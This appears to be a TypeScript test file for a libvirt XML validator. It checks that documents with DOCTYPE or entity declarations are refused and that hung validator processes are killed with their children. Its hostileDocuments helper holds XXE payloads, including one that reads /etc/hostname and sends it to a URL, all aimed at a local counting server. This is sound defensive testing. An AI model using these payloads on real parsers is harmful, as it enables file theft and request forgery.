// What a libvirt document may make the validators do: nothing but validate. A DOCTYPE with
// external entities must not make virt-xml-validate's xmllint fetch a URL or read a file,
// and a validator that hangs is stopped together with every process it started.
import * as assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runProcess } from '../../src/core/process/runProcess';
import { validateLibvirtXmlFile, validateLibvirtXmlText } from '../../src/core/validation/virtXmlValidate';
import { findDoctype } from '../../src/core/validation/xmlSafety';

/** Whether a process runs; a zombie (killed, not yet reaped by a PID 1 that may never reap) does not. */
const alive = (pid: number) => {
  try {
    return !/^\d+ \(.*\) Z/.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return false;
  }
};

async function waitUntil(check: () => boolean, ms: number): Promise<boolean> {
  const end = Date.now() + ms;
  while (Date.now() < end) {
    if (check()) return true;
    await new Promise((r) => setTimeout(r, 50));
  }
  return check();
}

/** Hostile documents that point at `base` (an HTTP server that counts requests). */
export function hostileDocuments(base: string): Record<string, string> {
  return {
    // The external parameter entity is fetched as soon as the DTD is read.
    'parameter-entity': `<?xml version="1.0"?>\n<!DOCTYPE domain [\n  <!ENTITY % dtd SYSTEM "${base}/x.dtd">\n  %dtd;\n]>\n<domain type="qemu"><name>t</name><memory>1</memory><os><type>hvm</type></os></domain>\n`,
    // An external DTD.
    'external-dtd': `<!DOCTYPE domain SYSTEM "${base}/domain.dtd">\n<domain type="qemu"><name>t</name><memory>1</memory><os><type>hvm</type></os></domain>\n`,
    // A local file carried into a URL by a second entity.
    exfiltration: `<?xml version="1.0"?>\n<!DOCTYPE domain [\n  <!ENTITY % file SYSTEM "file:///etc/hostname">\n  <!ENTITY % wrap "<!ENTITY &#x25; send SYSTEM '${base}/?d=%file;'>">\n  %wrap;\n  %send;\n]>\n<domain type="qemu"><name>t</name><memory>1</memory><os><type>hvm</type></os></domain>\n`,
    // Lowercase spelling: not a DOCTYPE to libxml2, refused all the same.
    'general-entity': `<domain type="qemu"><name>t</name><memory>1</memory><os><type>hvm</type></os></domain>\n<!entity x SYSTEM "${base}/y">\n`,
  };
}

describe('xmlSafety.findDoctype', () => {
  it('finds DOCTYPE and ENTITY declarations wherever they are, in any case', () => {
    assert.deepEqual(findDoctype('<!DOCTYPE domain>'), { kind: 'doctype', offset: 0 });
    assert.deepEqual(findDoctype('<a/>\n<!doctype x>'), { kind: 'doctype', offset: 5 });
    assert.equal(findDoctype('<!-- x --><!ENTITY a "b">')?.kind, 'entity');
    assert.equal(findDoctype('<domain><name>DOCTYPE</name></domain>'), undefined);
  });
});

describe('virt-xml-validate never reaches the network or other files', () => {
  let server: Server;
  let base = '';
  const requests: string[] = [];
  let dir = '';

  before(async () => {
    server = createServer((req, res) => {
      requests.push(req.url ?? '');
      res.end('<!ENTITY % boom "x">');
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    dir = mkdtempSync(join(tmpdir(), 'virtkit-safety-'));
  });
  after(() => {
    server.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('the test server is reachable (so silence below means no request was made)', async () => {
    const res = await fetch(`${base}/probe`);
    assert.equal(res.status, 200);
    assert.deepEqual(requests.splice(0), ['/probe']);
  });

  for (const name of Object.keys(hostileDocuments('http://x'))) {
    it(`refuses the ${name} document from a file and from text, and the server sees nothing`, async () => {
      const text = hostileDocuments(base)[name];
      const file = join(dir, `${name}.xml`);
      writeFileSync(file, text);
      const fromFile = await validateLibvirtXmlFile(file);
      const fromText = await validateLibvirtXmlText(text);
      for (const r of [fromFile, fromText]) {
        assert.equal(r.status, 'refused-doctype', JSON.stringify(r));
        if (r.status === 'refused-doctype') assert.ok(r.line >= 1 && r.column >= 1);
      }
      // xmllint would have asked by now; give a stray request time to arrive.
      await new Promise((r) => setTimeout(r, 200));
      assert.deepEqual(requests, []);
    });
  }

  it('points at the declaration', async () => {
    const r = await validateLibvirtXmlText(hostileDocuments(base)['general-entity']);
    assert.equal(r.status, 'refused-doctype');
    if (r.status === 'refused-doctype') assert.deepEqual([r.line, r.column], [2, 1]);
  });
});

describe('a validator that hangs is stopped with everything it started', () => {
  let dir = '';
  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'virtkit-tree-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  /** A stand-in for virt-xml-validate: a shell script whose child (like xmllint) hangs. */
  function hangingTool(): { tool: string; pidFile: string } {
    const pidFile = join(dir, 'grandchild.pid');
    const tool = join(dir, 'virt-xml-validate');
    writeFileSync(tool, `#!/bin/sh\nsleep 300 &\necho $! > '${pidFile}'\nwait\n`);
    chmodSync(tool, 0o755);
    return { tool, pidFile };
  }

  it('runProcess kills the grandchild on timeout, not only the child', async () => {
    const { tool, pidFile } = hangingTool();
    const r = await runProcess(tool, [], { timeoutMs: 500 });
    assert.equal(r.failure, 'timeout');
    const pid = Number(readFileSync(pidFile, 'utf8'));
    assert.ok(pid > 0);
    assert.ok(await waitUntil(() => !alive(pid), 2000), `the grandchild ${pid} outlived the timeout`);
  });

  it('runProcess kills the tree when cancelled', async () => {
    const { tool, pidFile } = hangingTool();
    const abort = new AbortController();
    setTimeout(() => abort.abort(), 300);
    const r = await runProcess(tool, [], { timeoutMs: 60_000, signal: abort.signal });
    assert.equal(r.failure, 'cancelled');
    const pid = Number(readFileSync(pidFile, 'utf8'));
    assert.ok(await waitUntil(() => !alive(pid), 2000), `the grandchild ${pid} outlived the cancellation`);
  });

  it('a timed-out virt-xml-validate leaves no process behind', async () => {
    const { tool, pidFile } = hangingTool();
    const r = await validateLibvirtXmlText('<domain type="qemu"><name>t</name></domain>', {
      executable: tool,
      timeoutMs: 500,
    });
    assert.equal(r.status, 'timeout');
    assert.ok(existsSync(pidFile));
    const pid = Number(readFileSync(pidFile, 'utf8'));
    assert.ok(await waitUntil(() => !alive(pid), 2000), `xmllint's stand-in ${pid} outlived the timeout`);
  });

  it('still runs the real tool normally', async () => {
    const version = execFileSync('virt-xml-validate', ['--version'], { encoding: 'utf8' });
    assert.match(version, /libvirt/);
    const r = await validateLibvirtXmlText('<domain type="qemu"><name>t</name><bogus/></domain>');
    assert.equal(r.status, 'invalid');
  });
});
